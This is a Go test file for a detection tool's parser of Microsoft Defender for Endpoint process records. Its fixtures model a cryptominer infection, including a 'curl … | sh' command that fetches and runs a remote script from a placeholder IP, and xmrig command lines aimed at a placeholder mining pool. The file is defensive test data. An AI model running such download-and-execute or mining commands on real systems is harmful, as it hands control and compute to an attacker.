package host

import (
	"testing"
	"time"

	"github.com/mamori-sec/mamori/internal/event"
	"github.com/mamori-sec/mamori/internal/record"
)

var jsonHint = record.Hint{Format: "json"}

func TestDetectDefenderRecords(t *testing.T) {
	t.Parallel()
	stream := fixtureLines(t, "mde_streaming.ndjson")
	hunt := fixtureLines(t, "mde_hunting.ndjson")
	checkDetect(t, []detectCase{
		{"streaming DeviceProcessEvents", stream[0], jsonHint, ShapeMDEStreaming},
		{"streaming DeviceNetworkEvents is not ours", stream[1], jsonHint, ""},
		{"streaming record with properties as a JSON string", stream[2], jsonHint, ShapeMDEStreaming},
		{"Advanced Hunting API row", hunt[0], jsonHint, ShapeMDEHunting},
		{"Log Analytics DeviceProcessEvents row", hunt[1], jsonHint, ShapeMDEHunting},
		{"Advanced Hunting row of another table (LdapSearch)", hunt[2], jsonHint, ""},
		{"Log Analytics row of another table with ActionType ProcessCreated", hunt[3], jsonHint, ""},
		{"CSV row of a table named by the export", `{"Timestamp":"2024-03-05T10:20:30Z","FileName":"x"}`, record.Hint{Format: "csv", Table: "DeviceProcessEvents"}, ShapeMDEHunting},
		{"CSV row of another named table", `{"Timestamp":"2024-03-05T10:20:30Z","ActionType":"ProcessCreated","FolderPath":"/x"}`, record.Hint{Format: "csv", Table: "DeviceFileEvents"}, ""},
		{"Activity Log diagnostic record", `{"time":"2024-01-01T00:00:00Z","category":"Administrative","operationName":"MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE","properties":{}}`, jsonHint, ""},
		{"sign-in row", `{"TimeGenerated":"2024-01-01T00:00:00Z","Type":"SigninLogs","ActionType":"ProcessCreated"}`, jsonHint, ""},
		{"array", `[1,2]`, jsonHint, ""},
	})
}

func TestDecodeDefenderStreaming(t *testing.T) {
	t.Parallel()
	lines := fixtureLines(t, "mde_streaming.ndjson")

	e := decodeOne(t, lines[0], jsonHint, ShapeMDEStreaming)
	want := event.Process{
		Host:          "vm-miner-01.contoso.example",
		Image:         "/tmp/.x/xmrig",
		CommandLine:   "./xmrig -o stratum+tcp://pool.example:3333 -u 4AbCdEf --donate-level=0",
		ParentImage:   "/usr/bin/bash",
		ParentCommand: `bash -c "curl -s http://203.0.113.9/x.sh | sh"`,
		User:          `vm-miner-01\azureuser`,
		PID:           31337,
		ParentPID:     31300,
		SHA256:        "abcdef0123456789abcdef0123456789abcdef0123456789abcdef01234567",
	}
	if *e.Process != want {
		t.Errorf("process = %+v\nwant      %+v", *e.Process, want)
	}
	// A machine's own account (no UPN, no object id) is its process's
	// user, and no principal: every machine has an azureuser or a root.
	if !e.Principal.Empty() {
		t.Errorf("the local account azureuser is a principal: %+v", e.Principal)
	}
	// The process start, not the envelope's publish time.
	if wantT := time.Date(2024, 3, 5, 10, 20, 30, 123456700, time.UTC); !e.Time.Equal(wantT) {
		t.Errorf("time %v, want %v", e.Time, wantT)
	}
	if e.Tenant != "00000000-1111-2222-3333-444444444444" || e.Category != "AdvancedHunting-DeviceProcessEvents" ||
		e.Operation != "processcreated" || e.ID != "d0c0ffee00000000000000000000000000000001:9001" || e.Outcome != event.OutcomeSucceeded {
		t.Errorf("tenant %q category %q operation %q id %q outcome %v", e.Tenant, e.Category, e.Operation, e.ID, e.Outcome)
	}

	// Windows row whose FolderPath is only the folder, properties as a string.
	e = decodeOne(t, lines[2], jsonHint, ShapeMDEStreaming)
	if e.Process.Image != `C:\Users\Public\xmrig.exe` || e.Process.CommandLine != "xmrig.exe --cpu-priority=5" ||
		e.Process.ParentImage != `c:\windows\system32\windowspowershell\v1.0\powershell.exe` || e.Process.SHA256 != "" {
		t.Errorf("process %+v", *e.Process)
	}
	if e.Principal.UPN != "jdoe@contoso.example" || e.Principal.ID != "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee" || e.Process.User != `contoso\jdoe` {
		t.Errorf("principal %+v user %q", e.Principal, e.Process.User)
	}
}

func TestDecodeDefenderHunting(t *testing.T) {
	t.Parallel()
	lines := fixtureLines(t, "mde_hunting.ndjson")
	tests := []struct {
		name     string
		rec      string
		hint     record.Hint
		events   int
		wantErr  bool
		cmd      string
		pid      int64
		at       time.Time
		resource string
	}{
		{
			name: "API row", rec: lines[0], hint: jsonHint, events: 1,
			cmd: "/usr/bin/kdevtmpfsi", pid: 777, at: time.Date(2024, 3, 6, 8, 0, 0, 0, time.UTC),
		},
		{
			name: "Log Analytics row takes Timestamp over TimeGenerated", rec: lines[1], hint: jsonHint, events: 1,
			cmd: "./xmrig -o stratum+tcp://pool.example:3333 -u 4AbCdEf --donate-level=0", pid: 778, at: time.Date(2024, 3, 6, 8, 1, 0, 0, time.UTC),
			resource: "/subscriptions/0000/resourcegroups/rg/providers/microsoft.compute/virtualmachines/vm-miner-01",
		},
		{
			name: "portal CSV row of strings", hint: record.Hint{Format: "csv", Table: "DeviceProcessEvents"}, events: 1,
			rec: `{"Timestamp":"2024-03-07T09:00:00.000Z","DeviceName":"vm","ActionType":"ProcessCreated","FileName":"xmrig","FolderPath":"/opt/xmrig","ProcessCommandLine":"xmrig --nicehash","ProcessId":"12","InitiatingProcessId":""}`,
			cmd: "xmrig --nicehash", pid: 12, at: time.Date(2024, 3, 7, 9, 0, 0, 0, time.UTC),
		},
		{
			name: "Log Analytics CSV export with [UTC] column names", hint: record.Hint{Format: "csv"}, events: 1,
			rec: `{"TimeGenerated [UTC]":"3/7/2024, 9:05:00.000 AM","Type":"DeviceProcessEvents","ProcessCommandLine":"minerd -a cryptonight","ProcessId":"13"}`,
			cmd: "minerd -a cryptonight", pid: 13, at: time.Date(2024, 3, 7, 9, 5, 0, 0, time.UTC),
		},
		{
			name: "DeviceProcessEvents row of another ActionType yields nothing", hint: jsonHint,
			rec: `{"Timestamp":"2024-03-07T09:00:00Z","Type":"DeviceProcessEvents","ActionType":"SomethingElse","ProcessCommandLine":"x"}`,
		},
		{
			name: "row without a time is an error", hint: jsonHint, wantErr: true,
			rec: `{"Type":"DeviceProcessEvents","ActionType":"ProcessCreated","ProcessCommandLine":"x"}`,
		},
		{
			name: "row with an unreadable time is an error", hint: jsonHint, wantErr: true,
			rec: `{"Timestamp":"not a time","Type":"DeviceProcessEvents","ProcessCommandLine":"x"}`,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			evs, err := decode(t, tt.rec, tt.hint, ShapeMDEHunting)
			if (err != nil) != tt.wantErr || len(evs) != tt.events {
				t.Fatalf("%d events, err %v; want %d, error %v", len(evs), err, tt.events, tt.wantErr)
			}
			if tt.events == 0 {
				return
			}
			e := evs[0]
			if e.Process.CommandLine != tt.cmd || e.Process.PID != tt.pid || !e.Time.Equal(tt.at) || e.ResourceID != tt.resource {
				t.Errorf("cmd %q pid %d time %v resource %q", e.Process.CommandLine, e.Process.PID, e.Time, e.ResourceID)
			}
			if e.Category != "DeviceProcessEvents" {
				t.Errorf("category %q", e.Category)
			}
			// A Log Analytics row's TenantId is its workspace's id: no
			// row of these names the Entra tenant.
			if e.Tenant != "" {
				t.Errorf("tenant %q, want none (a row's TenantId is the workspace)", e.Tenant)
			}
		})
	}
}

func TestDecodeUnknownShapeIsAnError(t *testing.T) {
	t.Parallel()
	var sc record.Scratch
	if _, err := Decode(&sc, mustParse(t, `{}`), "process.nope", nil); err == nil {
		t.Error("no error for an unknown shape")
	}
}

func TestJoinPath(t *testing.T) {
	t.Parallel()
	tests := []struct{ folder, file, want string }{
		{`C:\Windows\System32\smartscreen.exe`, "smartscreen.exe", `C:\Windows\System32\smartscreen.exe`},
		{`c:\windows\system32\SVCHOST.EXE`, "svchost.exe", `c:\windows\system32\SVCHOST.EXE`},
		{`C:\Users\Public\`, "x.exe", `C:\Users\Public\x.exe`},
		{"/usr/bin", "curl", "/usr/bin/curl"},
		{"", "curl", "curl"},
		{"/usr/bin/curl", "", "/usr/bin/curl"},
	}
	for _, tt := range tests {
		if got := joinPath(tt.folder, tt.file); got != tt.want {
			t.Errorf("joinPath(%q, %q) = %q, want %q", tt.folder, tt.file, got, tt.want)
		}
	}
}
